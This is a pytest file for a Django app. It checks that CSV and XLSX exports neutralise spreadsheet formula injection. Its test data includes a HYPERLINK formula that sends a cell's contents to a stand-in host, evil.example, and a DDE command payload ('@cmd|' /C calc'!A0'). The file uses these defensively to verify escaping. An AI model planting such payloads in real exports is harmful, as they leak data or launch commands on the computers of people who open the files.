"""Spreadsheet exports neutralise formulas (OWASP ASVS 1.2.10) in both CSV and XLSX."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from assessments.models import Team
from assessments.reports.exports import Table, table_to_csv, table_to_xlsx
from leadership.bank.io import bank_export, bank_parse
from leadership.csvwrite import cell_safe
from tests.builders import (
    released_cycle_make,
    responses_add,
    tiny_bank_make,
    tree_team_make,
    uniform_rows,
)

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@pytest.mark.parametrize(
    "text",
    [HYPERLINK, "+1+1", "-2+3", "@SUM(A1)", "\tTab", "\rReturn", "\x00Nul"],
)
def test_text_that_could_start_a_formula_gets_a_leading_apostrophe(text):
    assert cell_safe(text) == "'" + text


@pytest.mark.parametrize("value", ["Platform", "Team = good", "", "a-b"])
def test_ordinary_text_is_left_alone(value):
    assert cell_safe(value) == value


@pytest.mark.parametrize("value", [3, -0.25, 4.5, True])
def test_numbers_stay_numbers(value):
    assert cell_safe(value) == value


def test_none_becomes_an_empty_cell():
    assert cell_safe(None) == ""


def hostile_table() -> Table:
    return Table(
        columns=["team", "comment", "score", "suppressed"],
        rows=[
            [HYPERLINK, "@cmd|' /C calc'!A0", -0.5, False],
            ["\x01=1+1", "+cmd", None, True],
        ],
        title="=Scores",
    )


def test_csv_writes_neutralised_cells_with_a_bom():
    data = table_to_csv(hostile_table())
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0] == ["team", "comment", "score", "suppressed"]
    assert rows[1] == ["'" + HYPERLINK, "'@cmd|' /C calc'!A0", "-0.5", "False"]
    assert rows[2][1:] == ["'+cmd", "", "True"]


def test_xlsx_holds_no_formula_and_keeps_numbers_numeric():
    workbook = load_workbook(io.BytesIO(table_to_xlsx(hostile_table())))
    sheet = workbook.active
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    types = {cell.data_type for row in sheet.iter_rows() for cell in row}
    assert "f" not in types
    assert values[1] == ["'" + HYPERLINK, "'@cmd|' /C calc'!A0", -0.5, False]
    # The control character is dropped first, so what is left still cannot start a formula.
    assert values[2][0] == "'=1+1"
    assert sheet.title == "'=Scores"


# --- One neutralising writer for every CSV (issue 12, attack 7) -----------------------------


def test_export_scores_csv_neutralises_a_hostile_team_name(db, hr_user):
    bank = tiny_bank_make()
    team = tree_team_make("Alpha")
    Team.objects.filter(pk=team.pk).update(name=HYPERLINK)
    cycle = released_cycle_make("2026 Q1", bank, [team])
    responses_add(cycle, team, uniform_rows(4))
    out = io.StringIO()
    call_command("export_scores", cycle=cycle.slug, format="csv", stdout=out)
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    names = {row[rows[0].index("team")] for row in rows[1:]}
    assert names == {"'" + HYPERLINK}


def test_a_bank_csv_neutralises_its_texts_and_reads_back_as_it_was(db):
    bank = tiny_bank_make()
    bank.questions.filter(code="Q1").update(
        text="- fewer meetings than we need", help_text="=SUM(1)"
    )
    text = bank_export(bank=bank)
    rows = list(csv.reader(io.StringIO(text)))
    header = rows[0]
    q1 = next(row for row in rows if row[header.index("code")] == "Q1")
    assert q1[header.index("text")] == "'- fewer meetings than we need"
    assert q1[header.index("help_text")] == "'=SUM(1)"
    spec = bank_parse(data=text.encode())
    parsed = next(q for q in spec.questions if q.code == "Q1")
    assert (parsed.text, parsed.help_text) == ("- fewer meetings than we need", "=SUM(1)")


def test_no_module_writes_csv_but_the_one_neutralising_writer():
    root = Path(__file__).resolve().parents[1]
    writers = []
    for path in [*root.glob("assessments/**/*.py"), *root.glob("leadership/**/*.py")]:
        if path.name == "csvwrite.py":
            continue
        source = path.read_text()
        if re.search(r"\bcsv\.(writer|DictWriter)\(", source):
            writers.append(str(path.relative_to(root)))
    assert writers == [], f"write CSV through leadership.csvwrite.csv_text: {writers}"
